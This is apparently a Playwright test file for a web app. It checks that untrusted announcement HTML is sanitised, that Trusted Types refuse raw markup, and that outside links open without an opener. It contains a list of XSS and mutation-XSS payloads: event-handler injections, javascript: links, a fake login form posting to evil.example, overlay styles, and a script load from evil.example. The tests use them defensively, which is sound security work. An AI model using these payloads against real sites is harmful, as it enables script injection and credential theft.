import { listAnnouncements } from "@mela/contract/content/content";
import { expect, hydrated, open, test } from "../../fixtures.ts";

test.use({ language: "en", locale: "en-GB" });

const ATTACKS = [
  "<script>globalThis.pwned=1</script>",
  '<img src="data:x" onerror="globalThis.pwned=1">',
  "<svg onload=globalThis.pwned=1><animate onbegin=globalThis.pwned=1></svg>",
  '<a id="js" href="javascript:globalThis.pwned=1">script</a>',
  '<a href="//evil.example">elsewhere</a>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
  "<style>body{display:none}</style>",
  '<div style="position:fixed;inset:0;z-index:99999;background:#f00">cover</div>',
  '<p style="margin:-900px;width:9999px;transform:scale(40)">huge</p>',
].join("");
/** It hides what follows it, so it comes last. */
const MUTATION = '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.pwned=1&gt;">';

test("HTML that comes to the browser uncleaned is inert when it is shown, and stays in its box", async ({ page, expectConsoleErrors }) => {
  // While it is parsed for cleaning, the page's policy refuses its handlers as well.
  expectConsoleErrors(/inline event handler violates/);
  await page.route(`**${listAnnouncements.path}?types=B%2CPL%2CPU*`, async (route) => {
    const answer = await route.fetch();
    const json = (await answer.json()) as { value: { player: { content: string }[] } };
    for (const notice of json.value.player) notice.content = `<p>before</p>${ATTACKS}<p>after</p>${MUTATION}`;
    await route.fulfill({ json });
  });
  // The first page brings no notices, so that the browser has to ask for them itself.
  await open(page, "/m/help");
  await page.evaluate(() => {
    history.pushState(null, "", "/m/notice?index=0");
    dispatchEvent(new PopStateEvent("popstate"));
  });
  const text = page.locator('[data-part="rich-text"]').first();
  await expect(text).toContainText("after");
  expect(await text.locator("script, svg, math, iframe, form, input, button, style, img, [onerror], [onload], [id]").count()).toBe(0);
  expect(await text.locator("a[href]").count()).toBe(0);
  await text.getByText("script", { exact: true }).click();
  const escaped = await text.evaluate((box) => {
    const outer = box.getBoundingClientRect();
    return (
      [...box.querySelectorAll("*")].filter((element) => getComputedStyle(element).position === "fixed").length +
      (outer.width > innerWidth ? 1 : 0)
    );
  });
  expect(escaped).toBe(0);
  expect(await page.evaluate(() => "pwned" in globalThis)).toBe(false);
  expect(new URL(page.url()).pathname).toBe("/m/notice");
});

test("text that was not cleaned cannot become markup at all, nor a script of elsewhere run", async ({ page, expectConsoleErrors }) => {
  expectConsoleErrors(/This document requires 'Trusted/);
  await open(page, "/m/help");
  const refused = await page.evaluate(() => {
    const attempts = [
      () => void (document.createElement("div").innerHTML = "<b>x</b>"),
      () => void (document.createElement("script").src = "https://evil.example/x.js"),
      () => document.body.insertAdjacentHTML("beforeend", "<i>x</i>"),
    ];
    return attempts.map((attempt) => {
      try {
        attempt();
        return "done";
      } catch (error) {
        return (error as Error).name;
      }
    });
  });
  expect(refused).toEqual(["TypeError", "TypeError", "TypeError"]);
});

test("links in a text: ours stay in this page, others open beside it", async ({ page, context }) => {
  await page.route(`**${listAnnouncements.path}?types=B%2CPL%2CPU*`, async (route) => {
    const answer = await route.fetch();
    const json = (await answer.json()) as { value: { player: { content: string }[] } };
    for (const notice of json.value.player)
      notice.content = '<p><a href="/m/help">inside</a> <a href="https://mela.example/x">outside</a></p>';
    await route.fulfill({ json });
  });
  await context.route("https://mela.example/**", (route) => route.fulfill({ contentType: "text/html", body: "there" }));
  await open(page, "/m/help");
  await page.evaluate(() => {
    history.pushState(null, "", "/m/notice?index=0");
    dispatchEvent(new PopStateEvent("popstate"));
  });
  const opening = context.waitForEvent("page");
  await page.getByRole("link", { name: "outside" }).click();
  const beside = await opening;
  await beside.waitForLoadState();
  expect(await beside.evaluate(() => opener)).toBeNull();
  await page.getByRole("link", { name: "inside" }).click();
  await page.waitForURL("**/m/help");
  await hydrated(page);
});
